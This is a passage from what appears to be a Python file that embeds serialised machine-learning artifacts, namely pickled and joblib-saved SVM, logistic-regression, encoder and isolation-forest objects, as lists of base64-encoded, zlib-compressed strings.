        '3Hy2fe9hPb8o/1LXS6dMeIFJplZPjnXVrLzKDW0aIWODMI9PfibzKymizD/mcRqlMePVyzXkC2Z1Jjn5WXcq938x3Jlq0a1EnWT5ruA8xeBdffP2kKKRLw6Sclc5l5f5Xc0Q7go7rJlr',
        'w5w2v2zRuzirhLv1J1JPPjhc1VJJDnTujO94V8fXTOl6yNdvvKMauEyrpO6G1Y3AZ615146SwNeeCkoUTvqrr30fHp42IHhgCJiFyvK4eFZJKPRNxmiSGBOmfI0qYRscMBG2l8aJ0jhR',
        'GidK40RpnCiNE6VxojROlMaJ/944cYooBoRd8AgQdgfRH6oIUwVQOFUoEIiqaeLeQGZUSPvrep0kwy5OseLlvh/V78hsLoeLcDlMOkQX4LN+UDgbWiD4UY0IzzBDg4o24owz/htD5fA0',
        'M57YlsVDVoVvilSiEHlwQQx2+j5A9ib088abkCKJiPVFxStuKAOic4UcRESGOCksioy/2YYo891TpCf3wO2IV2uMZkmjm/mQV9Pd+3vf1hy+SFrJa8k2mc4jhuBP/Jv4e5y1h+A7DODj',
        '7JENdBj0CQGr+ZqjSixGGALRYSYrFEOV+aIcumQkL5EMhioiMBAQzMWhCv2KguECFrFNko/HUB2xhjBCoW/fjGAzBQK8rh3OhRAuhG8KvlFw7jP/K7HJJGPwcljorQDaCNCqgZaFY4b9',
        'FaYumMmG47yNQMsBmOag5YKxDWh5oq8q2yEs+X4Fx2RM6O3uTfBWw0ey/QqEDouisoQSLdGVcFlcQUqrRPTrIvXrCKd1g5Grnjqf3TCwoyxYAiidGBuY3X+qLcFakmqSLjwSHgXrASUl',
        'wgbgx9CbAI8eMDrYyBc29oXHwB6wz1egry889+toni/sB07mDxDngzYAXvhn9rPkT6wDpgOM0L9jDMfSt3+0PXDhHxoD+Bz9R8Zw+D8YA/xVkHD6YAkmHv3lDhzh6vawNGXpgaK+ao2m',
        'ZLMxzz7+SIJwJpz1rxfVunPcmGE3z/1Tv1X5z0SVW/m/EFX3gw8zLPZ6uRUYCvcMu/2pek0NcfG6Kb1/LioGMGBK9sSBaw3hU/FyIl5D+76A+4PCsbyEdpfQV/EfP75xg5Um5MondrnZ',
        'KPTwhPc73bI7B/6YBeJzwv9uETHx/7mIOPTE4rhhoGI9ONn0V/V5adZImjWSZo2kWSNp1kiaNZJmjaRZI2nW6N+VNcqe0x+3/rBkmD6oZLgBB2T8eeSYPRAXKn2N+aXxoTQ+lMaH0vhQ',
        'Gh9K40NpfCiND6Xx4b8sPnTrz1Bv+a8KiuTB/9eI1/VgHhwppFH+B3VwwcE=',
    ],
    'svc_rbf.pkl': [
        'eNqVVn1QVFUU3w8Wlg8RlYQUFbNsNdvRyTHE8KBbUK6So0n51ePt7t3dJ7tv1/fegjgZWEFS18b0mjIjxh866kyWQI2OX6DVuFg5CCF+kKDIhyiJZNOkjnX37YMhB3N8M7+9e98999xz',
        'zu+cc19ByNY5epX84Fgx24VYgTeKOW4jY3WxoohEgrWLM01kC5m0nqwjBhxnQ1ZO5Dw8Y/fxVinwR3SyXkTlPDkCwREWAbHZjMTRrcU4NBsJPHLRRcFiJzjUhhwCQsSsxToH63azBOtE',
        'K+uiu3VWD7JPJekq5cFayeMi6bDQsqDu9r77WG2ikx5lTcP7BkiGIa/IuTz8gFfholPg+GyOd5ANONIreCyshXNxUh61KcLKWp2IEbm11BA/jpIdZXIR53BKJAOH5SDB4hERldS72TUM',
        'JyGBzPuHPjhKYHmbx82IEiuhgCgjellBFo2m8UCs5BOQyHA8E/BwyEDFDMEjeZ/bm0cD6xGQ0e1zSRwrCGwewVGMgKweXpQEn1WikcY6WZLgMN4WFNlCzKpCYlJbyMdkETGY1WZNIXGO',
        'wzqblEdDT7do7EmkeENwVYvVr5CMjAzZaPnHrJKIpdgUE4xOD/SNhL7GeoVphjjHOscHDnJOGHiMAWu4AcqdU/5HtUqlVkZZ9UgG2e2IZkkOYv5LQigT5N+ZgEMDGcAK1AvnCyb9m7a9',
        'o4e9NTyVFNHjsF70eb0eQRrMtljFtumPs21hwB4tRQhFJMUwiuEUcRRPU4ymeF6xXUMRShFNMZRiBMVYikSK8RQT+nyL6TMthzroEQYNX6xZW0S9Kp7bQlVvX5G2p2dDJewpS5sT/2cn',
        'FNnrt7VFN8HxpqQpIx40w8g9eZ+mHm2DolOLupMPXYee48/eyGTPQ9YYsmT6lQPQ0pGVctdbB/7U05uPbbwMmQtmfFC1qhEak2rQzNouwO77N7XmS7D0WJmmcf41aF0WXrP7SAuoLqTc',
        'WLfxIqhqceaPWW+DHsVkrN95EAqMZvdnyZdhRvmyLVndXZCwvNA/y18NUlxS5cm4Zji66MYoQ+EJyOnR7iq43wAF82ImV1M9hw8aXtV83QTP9KxpvvdTJ+yaaC6pfv8X+GZvzdL6uDZQ',
        '3f5hReedarjwUd3qsokdUOGYte+A+RYYpkeXL591BV6rf8f/YngLpOZnu2+vroAdWxMPjDKehZNXoz73/twNiQ/iW4z5JdCr0a2seLkV0tePL1kV3gZN094Na6hshPj3cj88xf4G5We+',
        '0n0b0gF3/K3pPv4ilJZOYbLV3ZCWn9i8vLIdVg49tsp7qgVOL+vN6E1rh8U7hqcUldK4ftmb+tKQ30G16fy2c7W7oH3Y9oaY/Osw6deV93b/0Q61whfzjzSchOuGTcm5sW1gYJpvFRwu',
        'h7Vn/d/PvngOEjZPvha/oAM2/xU2Lj+9Cx4cGnJmQmZnsJgiGNoPg4nxiHJ6o9ikj6BJFNGXSBE2H+tiAu1vsBSiSSSnkKlscU1hibC/skop3iceX99/eEnkU61Vju8+ea6i9GCV5lK4',
        '4+jUq/3NIDdTa9p5txIebhIPj397cWpKen3/vG72zTEnJncp/nM87ZdW5B20ZNWFsit6bYJhL0sqgltC5dYwZxBxVVBcNUBs7iPFnHxAKtLOSXJ/9tGCNNOLgKG9NNjDBzeH0hEyup8K',
        '+SpjAjqI2RAoXhzJPIlHVbKaSObJKH1syB81KpSCQikolPZTrlD62NRQKO2fK5QGvQnj5fhRT9biGEb5RqBdTwh8BdDLappxpnEa8VmM/wI1uiFL',
    ],
    'tfidf_logreg.joblib': [
        'eNoBcwSM+3helVVNbBtFFI5/1nacxEngBohWgtKENBZBpUqh1EVBBFhkUFVRDkGj2d1Zz9LdndXMbBwjRfyIlDidWydCnBEHJCQOHEHKrVK5lBPngoQ4wAEJIXFAlDdrrx0SCcQe7Lcz',
        '7/d773v7bnn/t+JE9qg5cS0kmMfNJEhIGMREq9pruXhTL76nt/WCsoQkidBvgjgr/cDzN4krGQ/eJlyrE7kLn2CZcoLIluTYlQGLmxJkrWavGJvXxzZjx0GcpKBRdVksSQxSjcQu84K4',
        'o5WVSn95Vatpj8AR+OWcQbyKkDxwQXXGCAnCrguWQrfVdMJJwplLhADFtpqU7BqJsyzbqoZjHPayjMtdxj2tJkPWJdzFguhdNZPpogRLSXgMzhda6eKGs9Hd6C5tOFrVhWQJMoYmUiXC',
        'W8jz9Xrr1yGQlSiIzYldUNPmcgiGUZ6KOxxHiOO4Q+DeLlwHd5vMxU4aYt4z7pwgNlJfWZ7sJdAEK06jpAfA+CHD8txZfRPSjhmPtCqGT8J5KggCUCHzuogYk3T4Ni1Sx/QRcyR9cFiB',
        'P6NHa2oua8MVyEP44AmQyPtAT9MFurhLH9+lS33ViEfZIyhK2w1VBkOk1f1vMXDuNLPkUBK4MDxazbfN63Oc495VjpPkkGNVg3TcEAuh6aOqGnvYaJliLEExFGo3dkAGVE1fCmuaPgJ6',
        'QxBAq+iv6v7uh/qyXrBLqnBBt9vtl+/Bk/3YE1I7qo5DaCSKIpwAGg8OcsviIBwGnTiC6UBOTxKh7bnUKdy7kCRbJz/7q/V//xf3Lm1fPfPHf9od1dvvjNiGhlxBm4QLIAjUvtI831zR',
        'qaPm/WCLeGg8GAja10DjuYMO673K3a9+fL/6jpo6rGc4WpIU4JxUVgRcCbVdVdUuCToUmGFPqxLmZvZUmRIjVFTZpVhqALUmSZSEWMJpTZVgMLRdVmXJGPioqxLMmbanwD72tD1hJhX4',
        'Ai6LyqIEgNe2pSygRQjXMyl9kb6UOjDf94WsEwgZuJx0OPAxq/XhfFMMBzTLtIlyVbB6ZWh1eWw12hXVhACDJZCi7gHNiQs5e5peHHOwFq4Ay2Dx6PUBK2HBlb0UhwBkSUJB660Hzv3w',
        '80Nry2rGDyQMN3DdJYmEuZkfvSDhwtzAAjJUzmYXDYA0GwbI47EImmIAA+IKFkIroY2h43cErC/D/QDcattTVbhymAFwQtW7mGd2XBpWxgioBMuBrgC7alkUIpCmTw02Ll2lT9Nn7OKO',
        'ps/Si0CKS6oYHKICff44EegLu3TdTPis4cahJ8eiMBT2X83BqcZZrsfiFv4R9+yYgv8atzqMaYH7/eU8huUyArvjSGUFu3E9r21tlLmVeVha/fz0nRN3DtJTv/RvkNsH+fsO/r7/zY1b',
        'rfz//O8TH+yd+raV63390fafdw8+Hd3n50ftTn75xcxP698d5Pb7T+S51sdDcCzhESTjdCuDgt+YOvPxrcc+aY385Cwg8LXMty0Mm/nSmU8HiZjZ+pT1B4rNvwH+JA2eAP42tw==',
    ],
    'onehot.joblib': [
        'eNrNU89r1EAU3jS7/aVdKkVRFIt6sFUIFET0JFIEMZqCHjzJMEne7sQmM3F+2C4o1EOxC3PzrVf/Nv8SfclGu1dvDiRkZr68933fe++kP/sZ9Nrlt81hCVzLqNZQa5WBMYUcRwxkpnLQ',
        'Bv3GgYTnyj6bH+A33P2Cn3HHr2fcwljpAgjU584qwpqaawNMOVs7i2d+kNtJDegH0lX1BP3KqFTcPnxAYfxQcJmXwJw8lOpIol8uxlJpQvdzrWpM/EZVSDbS8MERnQkdDCt+zBbyJv7y',
        'CLh1GpjkFbBMVWkhiaVfzpQkIPotVsguhCVVPC0hx6kfUuD5n4YADOMlf+E8MMN3pHDrvUrLIo1a7qwuMrIK/aWk2T7Vmk/eal7Xi56sGpdmJTcGxZpfkTlvUI3WgRGcfIjDU/pWujHS',
        'B/soVgnXeUSopYNHOD37iq9xJw598AmTJHnxi1b7ip9YTP06L0t1xKqK1yTj+pxbm4fxkgysGp3pxJI78aZLTwazH72u1ldacEQuaYgqV9pizs9fZBrIL2O1y2xL90+5ziXEvVPcD1Kc',
        'swsaJSL8N+7TxtR+WrqmIcYagGoeaioH0GU0u9PxFNfmboob4qbYbhPdErfJqrvi3lTc71R9/69UBS+pnq/oedOJyTp64K+ypptZkR8zPrKg2VgrV9OQUfeu/b2izSZb6EmaINM0YRzG',
        'IdBVN6bsI81koci4wV70ONpDl0a/AcfGgl8=',
    ],
    'isoforest.joblib': [
        'eNrtOwk4lFvYxr5vEdlJthClkDiSVqLFUkljMMxglmYGbbJUlhpKxpI2VxFKWZIlSbY2SbJlJ1lSpJ1U/9DMlK87l1v3/rf/fzrPU2e+75z3vOs5510+AezRjqwsE408i+jphUQQsNpI',
        'LBGJcfZCasPRbjgCkkiikIVWE3FeCBIah13x5U0URT2Q4kdRI/NQn9AYBAlHoFiR+bFwxiORYsFGFmY8wvEIAgJDpKiT+TCIHXAiAoP3QhIpZHaENwlHIfOPv3RDIkje1OUpK8ELGlE8',
        'zjgciUgiIPCUMLIo4+Hr1DAyDw7nDCe6UOmiPvD6IggYOJGEIJCoT5xYuAfOmThOGQGBdcVNjJCQFLIY1huD36n95aU2HI92ofJOIYvC4V9eTUyDu4xzFUVBiZDF4HBnNAnujsQiCRPc',
        '0IbI4pMXwpB0DQ0X6FPIXGttvvyKohygbJiQlMCkFb6ZQub4QtX4JDZP5E4KeQaVai+0s/bE4gzqRKzGH5cSCIid9lQZ4JGEr2rgJno7u3ghiFSJckxAUdfHuiLG546TyUFEIfBIylo8',
        '6wHqA47gSoUlw5ZRf7uSdlIHUKr0X9TJrN56lLDQECrZalQVwpZQrKys1nymton/LFhIFGcyL8LLC+cLx2CoigklS38hdAIdHOGFdsdikFgS3HkniaohC2FvZ67PX9rImbAda7Uk7SpS',
        'HNPSslZvEx6SM8wotZ6VElma64yVfcFqHXR9c+aKFNhtCc+Xeh0ORXP8s/cVOHeaZ6R3rKgVZ+s4hyfZN7o9cG70s1oXzHaj5K1/kUO4Q3bxrhJtS4PSK04o9HqjtzJ8hbtq4gwXpDvu',
        'PnxYUcv1pLWZgT+B9cKus633CCHWSXfi3Fx8zI6kN2koK/XrWVA4DmXEeo2evyp4HpbesmX+B17WRaWZSspD7rgXqapnfQdc8bu2a/lon+bGHq3kSUF4VG58MKhyYknszHd1llkL7sei',
        '6q5emlfgrU94+nm4mCs0s97hqbbUojHhVQ3ncNts2MakP4sJpPPHxe42a8sPjqy1yupnNXULmb3g3V34CMwgLMpZmm/p+3QRibePZ4w0VsCWrzmpXwHTzaveavpWOdomK2j3Ff2l7KuL',
        'RM19tojjLxSWezwimnBcMxljUd9bpDhz+ZPI5wXVkp8i2+0H79vrdtw3PqSqP6Yz0JXilvdQniO4IfjSEzV/j02ZYZ2k5Hy+S6/7R8+wp1+4vXn4vL1BZN35wEg1uctYn1cWNUmm2mLi',
        'g4/mCrDu8jY79NLVVjA4NF8ER0K/5HfsbhnMLtj10PqD5fH9ibiAHV5lWjL3kmJTNqwp3DHHJkTR31Wia/PuqDWC13tgGMEj4YVyBI49HCZFL3dLps6NcWfvy8XkemwXKW02Npd+Wnu9',
        'ibjmhpd5jbFaXomVpdWKORcfqyexGu1/8s467+l1dlThGdjemJXwcssLldsOxB/wf925jtNRNeCei7dDSZzbLZYD7jC5kD3IIFy8AGHriowXa3vi/DvPhnGXIDcf2uKemu321LIOxyfL',
        'dywwMyjr8nCt/nJWp31eHE5OMnYsKdIw2ZEhE3+NNISv+pD5m9O1LF3X/6hRu9Ma5Yg2bup6Zu6ZLnFRWmV46LFqR+zVAL+h9t5IhRlmCflnU1ra7MvRMifmK7AdZjlF+VTvL5rZ+KkP',
        'Y/+UxyHX3JzPdpHk8fO+L+LeSNh37l4IV9GzSpD5I3WbbK2WvPK8bhxXWV/VA55kMb2HWd37r/v2x9p4Jm6K8IOVm5VEYPC7kgK11HZ13jc2D4qeW3RJzTJ238crUR6HZnwqrJLJ7njz',
        'kPDmVs2A0n7ysqsHhbDXqs7cWr3KZIlKul73uezS7LGtQzcfkG+FD5wuEz91sM9ChEv7YxT2qLz9DvbOsed+lXYCgUDF+gmSdcj7RFpZwptlo3275VXXbdwXe0VXdv5xr6aNpCtH0CFX',
        'x2Jdji/yxobP7tCxVk2bsa0Bo2nVPmKHCV07L6Lx3g6T0Dz48Nyc/JWRca8aAiv22ijDZdFNKWKEpRbPd66xSolNVKQUeQbs2SqLLfOZXbEvboZymmKeroaYyI1cxIkKlKdeMMqqu7O9',
        'kishykTpYWPqfuVFhi1s+j0zyt9bHpSbvTGua53JlZWH1eT8Ou33vBVZUD1cbiPLbqzpg41+ZXLexgcfrPAhVE4g8qGmG8/jj+HPQw6MzNhmEa7Y1KEu9HRZu4dF6Mg2g8fGnCo2bTBD',
        'lp0tSjnw+zvmZhS/Fz7bbpApW/1aJFFTZfHBoVhEyYo4osRl/CKy4Hql9iRfjT/K+L13Vi0szuf6YLNJHbNX4sQu3jWHjndxG+sdNzJMiq+Bs8fCD959H3QklcvFgHwrykKgIezdjbN+',
        '/XUbh/ddTEs8taDZqFavq38Oa5/oFixKxL9o/qmA9Y4X9w255s52GhxF+8U76fjpXjCa17P2vGjWFkWM4JZbEuq6QSqmw72auJ2FTSDq5BErPr6eFxQTnoepORy25V0LbjwfWiNf19mJ',
        '6xYzuRbGPbJNY3VFdcyat+8XVLINuW5YdSGxN39zb5TYqM1bdmnbj4uz9pS7ova8Nxw5AIv3uaRkvjJkJMWNqztNy8MB/ubeu47y+U3zmp/ctNaweI4ROjO7pHeZcvdRkeT2ELG3Qqef',
        'vywON/N/X6t/+Y6RffvHxtVp70yb4z/2DTvIpRlFkYJP7k1Vcy5S8b7Zs6MySCE51lHsZrGVVH7fzfUIRT/lFM289lnqpcsvnd8/a1RzpDbaV19svpKo24X1wUvqZPSWjhwbFvPjJaev',
        'zK5qOylyH3nq3YGSJ8cJJbHx+QcVCxVzL7MRuBKWrL+6JFZo/rtH/PlZm4vENWz9Wy7qSfGa1194cjCZ1036zsrcZefUdVeoV3ZcWJK8OLMyYa24La9jNF7m2YEB/JtUdLul1V7inXql',
        'pvfx0goqyFlOnmH43MHjTRvcrlY7akmmtgncvJda9WqhoY3giuPFH5WsHV4dVWDZ44LZzsW/ec2sVXddfRzu3BxbJqT90nJrbEPwid0L9x6rt9kb2nV3+/pUW1J9XdFAiIeRHXZsNe9V',
        'Vq1RvqtyAnZDnh71GoUyN7R7dxlvr/+0dt1G3953T64Tg4qrRwOOqoKXyQKX+rXCLitVzRm7WxgZcWem0fKLfdvL+80/iaf8IR508fI5vOI6FeLWp60SpY1sWkXm+fua/Hxstp1MOWL9',
        'yPXS4qACrRRHEWObw49xl0kGxz/ZXOSSU+Me2oFBI69yIY+hknnZLpXFvSoye6LpqTzP9vY5wtNNFc84T7JFvPFlsY2oTMtGmrJ+OGjeq3VVNKPUqiPGWvwsO3/viedjKi2+xfjgJc8b',
        'Mu+91GBRcX1xgF/zjd3hSum33Or6SzNmFrw8xn2/N+uYnNsNU1/Ep88pW3XUJVpmuxNV5m1JKrOB7bxgq3zStVdKsqOveMUCn4x1vm5vQZFmCkVzOC1zVOzOh5T0D60vLh9tFHnFuihC',
        'cv/+cCOnE9Vvs7g0+GG1hZ9u31DOn6tmWF9o36O7n2d1b+kmVwcj6noJ5nLP2Yf9shckiyOqy9pbc13WW/7RFabH03yX5Nq/cEh7iVNIQf/dukq/0xkuId3B0vsuB8uIfhIMKqBctzj/',
        'plnojgunZ1Iv37Gh1dGJAYnNyx4KDQV6cUpJN3mfWcjufPnwPba7bie7pdQN7bNBUPvM1TOfKQnOup8kmb1fWj8fL5Zc08N9SizxUIl13BmSm8PDJO7agqC7fBvDUje8jN0oZMgp2KQr',
        'nHJl0xp9hbTNTeuezjqfvaqrIAz1uWVV0NFlikT+Y/CKz1sP8MaofyiKazs6suE2T3/jMxt5XbhFnLJXuocpoavnE6sF+q2wTuJtxYd1h5e56KOHEfFp7ZFq/MfaTkQclrOtX7vrLOK8',
        'YpKlbuyZgYi3S/tgiReXjL6TNGjLTCyV0yyRW+6wiLW0Tn3GzbaVBw3mNt7V1Vq7aM+RW01n4ftebN7VFSY+tAm9YdS4PyZ8AFd5ljxvdNjzg3Ntl1DVTFnBjU7LTzjyke9bwCoTeX3u',
        'zmvomOnbWim3p+UYX4TfSgF/vT7lNtmj4dwbx6KNFvK/6ztJcnsRvZaF5piz4XFEytplMG9vq2CKM83HRcl89WpRcuMvFFCzv3ioKBWUOkpjwgFFaaK0UNqoBahFoSj9ce+Q5/Pn3/7h',
        'b//wt3/42z/87R/+9g9/+4e//cPf/uH/Tf/wEy2bjDIY9w3JPCgEEe6O8CYSKRYsZI4vv1bSfEgWb2cylw+S4IwjIseHBVxwWBICg8ZOJJopKB6yIJaR6IWjsfDxjDL/N9lj6gs1Mi8c',
        'y8gmjz9+zThTyOL0lDaJgERqwycSpONJZ9HlO0gEhA315QakO3VxIu6bVCqPCwFNQhLGSSALELd7IwhIVziSQBjP2XIT8V5oEmk8e8r5JedLIfOMU+SKxJNQFAtOsgiVfgZ9E7MpFqxk',
        '4W/fUklyo1jAyJLjL32RaHcUCe5GQLiMc/1lkCEhFC91nuA4gvH3cCzOlUq+FUoYZUQWH4dGY/DeVGp3UvG7EJAIqhwZoGT+CXZpCChWVL5c8HCEFx6F+GaSAAaHxZFwWLQL3IU4PksY',
        'TpMZnKoZ4oQQOHS1DbV1KVRt8cO/zd1TpS0An5S3p+pHkDb8FS/f15IAnOJIjQQsaRGBNWodaj1qA2qjBSfKxoIVZWsBQ9lNYh1lT+V1jTKJZIra9HVgsxVqy9cnByvUCipeXiwc503C',
        'e5PGrQJG5esbuibecIzbANUmRCfbxPj/FDL7uC1QTcCCbXK8YgFjhCs6ZFa0wde8OErv+6w4I6DhpsczMBqV0eG0XxawEFqoROWaSjRVoXAXnDeWaiXzyBxf9AshYd43JLDZLZqUm99D',
        'saKavBfSjQR3QaG9XClkPsKEPdGeuGgioFopCUWVBAo3/pabbjaU8R02QQOjHiPxRW9Uk4eOiGLQRCIa6w53x8FJOPg4Ugppgs690xGOBUswBeWPOmjBTe0DqL0wtQ8ch3SbClKSOjMI',
        'FWmhQO33USHVqP1+6rMOtT8wvoK37jcr+P3JCgbBFG8LUwuYhfC3aoIx9KNG6+nP+z1bFeoPPwOumObihjv5gD7+pZmb0ufRTjuWGZDnd8bixB0ZjeBpxvoN+T25QHkSvJkp/RcbreeH',
        '4Le2e1Mk5FkDZDVWDK9XzQQCk+A1GPDstJ4Dgl8COXc0NasU2IkrLtxolAs4JsGLMeA/Q9onWk8bLmaB0PWlvQD0X5y0nodlcluT6n3JyKcdyLlJWXfm5QH2SaPCDPxctJ4bAn/N2NHs',
        '4sAjMDpX+6qiTDlgnTz8j9E/PXi3QmbwvLSeD4Jn3VpkVdrzTOC0emsQcfTIf0z/uiXM4Ol2JQrB8/iRurK4aR9gcarYw56QDCbrR4Fh/4K0XggC35oAm3Mi4yEIKB4w29aUCrgmwcv8',
        'Y/wL03oRiP1UnCvHI9orAfvF6vDCFcmAc9Ko5P+a/N/ni4nMXn3uJ/dfKFP7E6P1shA6d2dj+vV0HgMbRZEPcMc8IDEJXp+hP3G6RiDnB6vmAnsHlgFACTrmDC/NBcKT4HUY8DNp/SwI',
        'fi+px6orTlSA7pyhuELhfCA0CV6bwT+dLkkIfP57xQdlPJcBS45RPZdw6n+8f/KYyl+K1ktD7O9KQejq6286QVxWtLFlXj7T83sq/Ed2ZXagVH/cfhrDHj8usC38bv/+Pf6LmZ4fcrR+',
        'NsR+Ws8px+SntYG+Tx5jn65mMd3/8nSKIHoSXRccWLK+B6yy39FYsfEyYJsEz/2P6V+R1itB9NdQEneowLQC9H1WXl2Wnfcf2x9zeLpfoQqZd820wP1j5ABwHVEI25ac8d39S583h9ar',
        'QOCLOGQVF5J7gYHjie3XzTK/kz9smvTbzbtlflf+Z+XH/PybHnwQU3h1+okE4V+Mu/JFD24QqHgKm7eylDOVnwat14LY/96DeNa23Dqg5PDWJdD1DlP5zaX1mhD4M11r33egC0FtjIfx',
        'PZGqX9b+pgUfcOAn9XeE6fkTrUMPZDl9EF7efxI8UX1+ashFC6AiGa4/5xc8BYtv5ft5tQIudtblW++1gpmzXi2NZ68HGLGWiNSMZlD/8chHr5VPwKn4O0TZkQbAaUhVR3MLGL7/as4m',
        'rwGwLjKGFD+QDBaN2UupSzwENYWhmo02zUDP10r4dVY5+LS7M1N4Zw04LpWjnhVWA4oXE89UPwwAIhlVuIUH64BBKS5UKqkcaCTnn39xsQFcmSPpmcxeA+aHkOoezeoE/dtuGm7ifgye',
        'nzJ+t62sC5gFzkjoku8DETcWyGH4OsEb01eKm/SGgHaujPu24U4gZXj0REd3D3h7yI1vS1YryDn1SP4VWy9A+uVeVYM/AuLkK7Mt01qAaYbUU2L4A8BibKawVaYTuNrlNB6/WAncle3X',
        'iAgMAPj8PK2qnnrAVpTQm76pGSjyIj0PerSBsjmSHa/16kCf3MfPjkql4J1KcW0aexNwONJ1Go6pB2XPxoQDTTsAy6kVZvrXY0Hc2V537tIh8GLodGutTiJw875guALZBaIjGCkg1FaU',
        'I/X/v5sUOCQhOGOqpAAKSZ3tRv3njvL4i8gez7AKYag9MuL3RSx/Er+jvC1UUT6QdVUZ6+5hng9gh9w3HZUsUfH62UzjTRbI+cAG2ZfiKyNvLs9pAyzr8XZnPU7/x+dFAtP9ygGJG+jz',
        'IsoQGyjNl8FekVorKXQ+UJkEv8yUWbxJh7/02XIV/8xUUH11XlGU3nmm/hI03qTLycNgha7ewgcgIP7kgODg9l/2vOWFxG30eaGyaV7xXlkgtCrjw5yYy0zvGz5IvoFxD3rLW3A4tYC4',
        '08rPjqec+4/5Z37eTw8ez/S+EYLEO/QWQoA7bfzcAwoj/BSQrQVA8dvBAFNTaLwpAeGzW9+Zb7ZCD4h5s3vZg23M4yURSNxGf//EX+owq0IreBtC2nThZS7TeEEUkm+itzG+Q1vTDrWC',
        'SJ7RbfNe5vxwvBujdn9d++boH/a3ze3wR2XDrzGFF4fEjfRmlRN/Om7dE2DmGG2990bud/HCdP3NaokrjwiWOT8Z7zM/vyQh8S59n6gVs+nlOVSDPE1NaQfZfy9egcabdPyfo2t5Mgeb',
        'f5F4ZQfT/ScLiffodO5YzI97bn8dcAdi3V7euAYm53N0TaHxpjzEfigV91xdtw6AGzAlD4mizF/2/FaExG30ppJnLpKV9BwMDtaltxsUfZcvgUHi1NkQ+GQ+gZ0JCgOgJ0gqfuNI4Xfn',
        'x3T3DzdP0pvjywsA7yR45WnLr0J+OzproISp/UPjTbqeNm7FnMKs6QPmgrg2THjJf6y/QKb2G00PGFEnoW4fk0BDYBI+erxxTDWdBPPvAwHI+R9lurtAVr/qsyezBoFNsxx3nWsLsA5a',
        '1H7+XQfIgncJYNQfM+IQut9fPr9Vw461HWhJyMg5H+pmxCPQ+MMIX87WF94Myj5ejZHKfATeCMZsWvG+Edz19gnWiq0Ft4uz8CoLb4EFh6Jqb85oBaHKmfz6+S1gd2ynVU13I0AZ3rx+',
        '+1E/iOLmO8tV08KIT+hxAz1eoMcPr5ttHVKtWkFH/fa7RrY1jDjgxR9wEbPYTqCBjPE3LW8DcwUQqa/d2wGx8W2cG1s7kAlDlEc6dAA5xWFc+pkmIK8koZQQ0M+IG34+XiB0lCz4BeIF',
        '/e/iBf3pxAtykP0un+sn3wzrnXZ9ClqfoETteN145R6IwUSa29Xngsn38aLv6lNQf9l1bdyR1tyHTOtLsCnqU91H/VKd2O4DyqBJg9bOnH/tvuSE+P30ZhIlhNB+0AwCsGdPPzUp+o/P',
        'mwim5w0PxO+nt0dZLPY9o4/BwmREWe3lxF/2vuOH+H30efHW3TI+x7vB4L5XajKvc7+772GQOEcYAn+Hl4A3O9cA4vVdfHXS88HkeEaNwT+0PkWXkygl78NHXA2wrOMve6F065eVnwjE',
        '76fT+VJCgptsUQs+9Sx7la+U88P39VT4ZzCJV5pFXEJETrYClk1A72TiZTC5/qs0bfzVyxvRIJrCtD48ZX3jdE5wtuU1pvH+TCb+uptfT6C//0MgOsBOKL2VzRQeWp9ifDdzaBNMtLoJ',
        'sPjcCMiTX/zL2o8UxO+m0/l6841BB6FOQHqtfVX8dTbTfIE0k/pgb/UmQuaRXz/emB58BtN4T56Jvyq3f2f62rFqsKc7t/KZViEQnQQ/n8G/AsTvpbe1Tgqqz1UHAHtdecXlE9eZ1heg',
        '9SnG9wWdI0laas9BATbOx0+o/F+7P2dD4hX6vIGewI8x4oOg/v9DfeIv6rv0upoORH8tuwy7m3qeAWyVPUxZtwAIThrVNIV+VzQPYj8bTDzvk0YHwAkxePAb1ezvzk8YpD6lCcFv5HJ6',
        '8+uSPiDJeThJdWYW0/quBqTORMe/3Ff8fYlGH5DZ+n7Pa07m9cGp5LdECMPppJ/5k/ZHYbr/tCD1OXobPVhjyCv1FOwJNiFHRCf8MP2NpRhtzEe7f23/TNP+mPKvS/fIIXh2Dtk2jJq3',
        'gA8fxI+Gi5Yy9b/n0/oF0Pqk8b0G0YY2kNYsudBNvviH79+p+Nej9Qsh+nN86jFwxHoQ6BynJDoMJPxwfVnnH/k+JK/w36pvMs8X6P+tfAG7t0+o6dpWRl0ypGq+QD1vFyMv0H6FLfqg',
        'VwcjD0CP/8cipHdbzK9i1Cnp+QFz17my8RWtIL1HVc1qfyvI7vbbZrK+hVGfvCXxQnpI4Bk4H/D4Su6NVtDybuVunHg5mA/jGlre3Q4ilriX15MeAW9WRyOZA13AbG78/SvINjBSUgzC',
        'rlWDHcU1ao3Pqhj5gvxw8eeg+DHTvIHWvMJgLu5+cDEwUPTC0VYgmjK0uUeyC9yyuSMja94F7isj9WwtepjXF2n5BQUls+ObLzYDnw+PtsZoNQGDh3udLLMawC3h9TIJuR0Ajbxma3+j',
        'i1HHvMGTK5z59C4QUBNT1zh/DRTusl4aeKeDUTfNcb9j8sy5DYjAbm0UzukCCqOyVUXGf4BDiOsKvtF9jHrsd/mKFZB8BZIs9s1n0F8/TB7/HnqyYbD9SZ6BkQ+A7je63UfTL+ppLMb3',
        'jX39r61HP8iRZE44EYl0/a5Q/2crwz57OuZMLOH4yWHCxdJtPGszsd4yuiMuC0f4IAkIdyQcjyCh4F5IrDu1wyMJX77sZvotdeSf0n9Yu6HJWkHKtKnMVQGxapZpi3h4bamMiOm8VciM',
        'wpOsjHNFp/D2MCLhI4DudxYm5wC9uS700MzfxmuaIH+e11fn6z3zVLRaYcE5DsYzFF9t+7WGxExx06SF6B2Gt0RNr+juafNeJmrKDA+Ubjpe+jgdf3a8WPKu9a/AVHTT+Z08/8fnQRsz',
        'e1Odpr6Y4Ul8f3+xbu4siP6+nzddenUu5gRyxkgy9ECXM11/9HXoPV3OUP1OV+6DpyOutJnPYEo33Q7odBTumiuQ81HAdCp+mMlbf5rypgg7zkLbiTPkOl1+puLT7/7yPzJ9hZnyS+eP',
        'sZ+sfLA3V/Gb0u2OTs8/pW8ZvVBZu4IZpn9u11PxycIyVtIegc8RMaXTSd+HzNb7azxfz4XJ58/U/ESb0AvdFPLM8T8WQo//ac+3R+Zf/NnJNPLd0O9SoHlfDib5WK4p3rMzgWc2n2MK',
        'Ov4ufo6fpGMqfNOVGztk3tTn5Z/fz8z0xfaD9DCTx7+lB86ftJcfxT/1efn35D3V/uCcYh7bD/L7b8vtZ/n8VfZttMzX85IL5+ZGRJLglJXXO2hGMOHSa/8Peyu0OQ==',
    ],
    'frame.pkl': [
